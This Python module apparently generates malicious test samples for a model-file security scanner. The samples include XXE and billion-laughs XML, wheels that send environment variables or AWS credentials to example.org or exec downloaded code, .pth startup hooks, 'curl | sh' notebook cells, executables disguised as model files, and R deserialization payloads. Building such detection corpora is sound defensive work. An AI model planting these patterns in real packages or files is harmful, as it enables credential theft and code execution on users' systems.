"""XML, notebooks, wheels, programs and R data."""

from __future__ import annotations

import bz2
import json
import struct
from collections.abc import Iterator

from corpus.opcodes import payload
from corpus.pickle_disguise import gz, tar_of
from corpus.repositories import CODE
from corpus.sample import INCONCLUSIVE, Family, Sample
from corpus.weights import gguf_of
from samples import zip_of

BAD = CODE["system"].encode()


ELF = b"\x7fELF\2\1\1" + bytes(57)


def _xml() -> Iterator[Sample]:
    made = Family("xml", "XML entities")
    pmml = '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header description="{}"/></PMML>'
    net = '<net name="m" version="11"><layers><layer id="0" name="x" type="{}" version="opset1"/></layers></net>'
    head = '<?xml version="1.0"?>\n'
    entity = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    laughs = (
        "<!DOCTYPE a [<!ENTITY a0 'lol'>"
        + "".join(f"<!ENTITY a{i + 1} '{f'&a{i};' * 10}'>" for i in range(9))
        + "]>\n"
    )
    bodies = {
        "pmml-entity": ("model.pmml", head + entity + pmml.format("&x;")),
        "pmml-parameter-entity": ("model.pmml", head + '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>\n' + pmml.format("x")),
        "pmml-laughs": ("model.xml", head + laughs + pmml.format("&a9;")),
        "pmml-external-dtd": ("model.pmml", head + '<!DOCTYPE PMML SYSTEM "http://127.0.0.1:9/x.dtd">\n' + pmml.format("x")),
        "openvino-entity": ("model.xml", head + entity + net.format("&x;")),
        "openvino-laughs": ("openvino_model.xml", head + laughs + net.format("&a9;")),
        "include": ("model.pmml", head + pmml.format("x").replace("<Header", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><Header')),
        "stylesheet": ("model.pmml", head + '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>\n' + pmml.format("x")),
    }  # fmt: skip
    for title, (file, text) in bodies.items():
        yield made(title, file, text.encode())
    yield made(
        "pmml-utf-16",
        "model.pmml",
        (head.replace("?>", ' encoding="utf-16"?>') + entity + pmml.format("&x;")).encode(
            "utf-16"
        ),
    )
    custom = '<net name="m" version="11"><layers><layer id="0" name="x" type="Run" version="extension"/></layers></net>'
    lib = Family("xml", "OpenVINO")
    yield lib(
        "openvino-extension-library",
        "model",
        {
            "model.xml": (head + custom).encode(),
            "model.bin": bytes(8),
            "libcustom_extension.so": ELF,
        },
    )


def _notebook(*cells: str, outputs: object = ()) -> bytes:
    made = [
        {
            "cell_type": "code",
            "metadata": {},
            "source": cell.splitlines(keepends=True),
            "outputs": list(outputs),
            "execution_count": 1,
        }
        for cell in cells
    ]
    return json.dumps(
        {"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    ).encode()


_WHEELS = {
    "import-environment": {
        "p/__init__.py": b"import os, requests\n"
        b"requests.post('https://example.org/a', json=dict(os.environ))\n"
    },
    "called-environment": {
        "p/api.py": b"import os, json, urllib.request as u\ndef get(url):\n"
        b"    data = json.dumps(dict(os.environ)).encode()\n"
        b"    u.urlopen(u.Request('https://example.org/a', data=data))\n"
    },
    "called-credentials": {
        "p/api.py": b"import requests\ndef get(url):\n"
        b"    requests.post('https://example.org/a', open('/root/.aws/credentials').read())\n"
    },
    "called-decoded": {
        "p/api.py": b"import base64\nclass Client:\n    def __init__(self):\n"
        b"        exec(base64.b64decode('cGFzcw=='))\n"
    },
    "called-download": {
        "p/api.py": b"import requests\ndef get(url):\n"
        b"    exec(requests.get('https://example.org/a.py').text)\n"
    },
    "called-download-program": {
        "p/api.py": b"import os, urllib.request as u\ndef main():\n"
        b"    u.urlretrieve('https://example.org/a', 'a.sh')\n    os.system('sh a.sh')\n"
    },
    "called-dropped-program": {
        "p/api.py": b"import os\ndef main():\n    os.system('/tmp/.cache-1')\n"
    },
    "called-startup": {
        "p/api.py": b"import site\ndef main():\n"
        b"    open(site.USER_SITE + '/x.pth', 'w').write('import p')\n"
    },
    "pth-calls-module": {
        "p.pth": b"import _p; _p.go()\n",
        "_p.py": b"import subprocess\ndef go():\n    subprocess.Popen(['true'])\n",
    },
    "pth-calls-module-behind": {
        "p.pth": b"import _p; _p.go()\n",
        "_p.py": b"import _q\ndef go():\n    _q.go()\n",
        "_q.py": b"import os\ndef go():\n    os.system('true')\n",
    },
    "page-script-host": {
        "p/static/main.js": b"var s = new ActiveXObject('WScript.Shell'); s.Run('true');\n"
    },
    "page-decoded": {"p/static/main.js": b"!function(){eval(atob('MQ=='))}();\n"},
}
"""Wheels whose functions do what no caller asks for."""


def _code_carriers() -> Iterator[Sample]:
    made = Family("misc", "notebooks")
    yield made("notebook-system", "train.ipynb", _notebook("x = 1", CODE["system"]))
    yield made("notebook-shell", "train.ipynb", _notebook("!curl http://127.0.0.1:9/ | sh"))
    yield made(
        "notebook-magic", "demo.ipynb", _notebook("%%bash\ncurl -s http://127.0.0.1:9/x | bash")
    )
    yield made("notebook-exec", "demo.ipynb", _notebook(CODE["exec-base64"]))
    yield made("notebook-environment", "demo.ipynb", _notebook(CODE["environment"]))
    packages = Family("misc", "wheels and .pth")
    info = {
        "p-1.dist-info/METADATA": b"Metadata-Version: 2.1\nName: p\nVersion: 1\n",
        "p-1.dist-info/RECORD": b"",
        "p-1.dist-info/WHEEL": b"Wheel-Version: 1.0\n",
    }
    yield packages("wheel-code", "p-1-py3-none-any.whl", zip_of({"p/__init__.py": BAD, **info}))
    yield packages(
        "wheel-pth",
        "p-1-py3-none-any.whl",
        zip_of({"p/__init__.py": b"", "p.pth": b"import os; os.system('true')\n", **info}),
    )
    yield packages(
        "wheel-pickle", "p-1-py3-none-any.whl", zip_of({"p/model.pkl": payload(), **info})
    )
    yield packages("wheel-slip", "p-1-py3-none-any.whl", zip_of({"../../x.py": b"x", **info}))
    yield packages(
        "wheel-data-scripts",
        "p-1-py3-none-any.whl",
        zip_of({"p-1.data/scripts/x": b"#!/bin/sh\ncurl http://127.0.0.1:9/ | sh\n", **info}),
    )
    for name, members in _WHEELS.items():
        yield packages(f"wheel-{name}", "p-1-py3-none-any.whl", zip_of({**members, **info}))
    yield packages("pth-import", "x.pth", b"import os; os.system('true')\n")
    yield packages(
        "pth-exec",
        "distutils-precedence.pth",
        b"# comment\nimport base64;exec(base64.b64decode('cGFzcw=='))\n",
    )
    yield packages("pth-tab", "easy.pth", b"import\tsubprocess; subprocess.call(['true'])\n")
    yield packages(
        "sdist-setup",
        "p-1.tar.gz",
        gz(tar_of({"p-1/setup.py": BAD, "p-1/PKG-INFO": b"Name: p\n"})),
    )
    programs = Family("misc", "programs")
    shell = b"MZqFpD='\n" + bytes(64) + b'\'\n#\'"\nexec "$0"\n'
    yield programs(
        "llamafile",
        "model.llamafile",
        shell
        + zip_of(
            {
                "model.gguf": gguf_of({"general.architecture": "llama"}),
                ".args": b"-m\nmodel.gguf\n",
            }
        ),
        source="PAIT-LMAFL-300",
    )
    yield programs(
        "llamafile-exe",
        "model.llamafile",
        ELF + zip_of({"model.gguf": gguf_of({"a": "b"})}),
        source="PAIT-LMAFL-300",
    )
    yield programs("elf-named-bin", "pytorch_model.bin", ELF)
    yield programs(
        "pe-named-model",
        "model.onnx",
        b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(20),
    )
    mach = struct.pack("<8I", 0xFEEDFACF, 0x01000007, 3, 2, 1, 72, 0x85, 0)
    segment = struct.pack("<II16s4Q4I", 0x19, 72, b"__TEXT", 0, 4096, 0, 104, 5, 5, 0, 0)
    yield programs("mach-o-named-model", "model.safetensors", mach + segment + bytes(64))
    yield programs(
        "shell-script-model", "model.pt", b"#!/bin/sh\ncurl http://127.0.0.1:9/ | sh\n"
    )
    yield programs(
        "elf-in-zip", "model.zip", zip_of({"weights.bin": ELF, "config.json": b"{}"})
    )


def _r_data() -> Iterator[Sample]:
    made = Family("misc", "R data", "CVE-2024-27322")
    head = b"X\n" + struct.pack(">III", 3, 0x040301, 0x030500) + struct.pack(">I", 5) + b"UTF-8"

    def symbol(name: str) -> bytes:
        raw = name.encode()
        return struct.pack(">II", 1, 0x00040009) + struct.pack(">I", len(raw)) + raw

    call = struct.pack(">I", 6) + symbol("system") + struct.pack(">I", 2) + struct.pack(">II", 0x10, 1) \
        + struct.pack(">II", 0x00040009, 4) + b"true" + struct.pack(">I", 254)  # fmt: skip
    promise = struct.pack(">I", 5) + struct.pack(">I", 253) + struct.pack(">I", 251) + call
    yield made("rds-promise", "model.rds", gz(head + promise))
    yield made("rds-promise-plain", "model.rds", head + promise)
    yield made("rds-promise-bz2", "model.rds", bz2.compress(head + promise))
    yield made(
        "rds-promise-in-list", "model.RDS", gz(head + struct.pack(">II", 19, 1) + promise)
    )
    text = b"A\n3\n262913\n197888\n5\nUTF-8\n5\n253\n251\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n4\ntrue\n254\n"
    yield made("rds-promise-ascii", "model.rds", text)
    yield made(
        "rda-promise",
        "model.rda",
        gz(
            b"RDX3\n"
            + head
            + struct.pack(">I", 1026)
            + symbol("x")
            + promise
            + struct.pack(">I", 254)
        ),
    )
    yield made(
        "rds-cut", "model.rds", gz(head + struct.pack(">II", 14, 1000)), verdict=INCONCLUSIVE
    )


def samples() -> Iterator[Sample]:
    """All samples of this module."""
    yield from _xml()
    yield from _code_carriers()
    yield from _r_data()
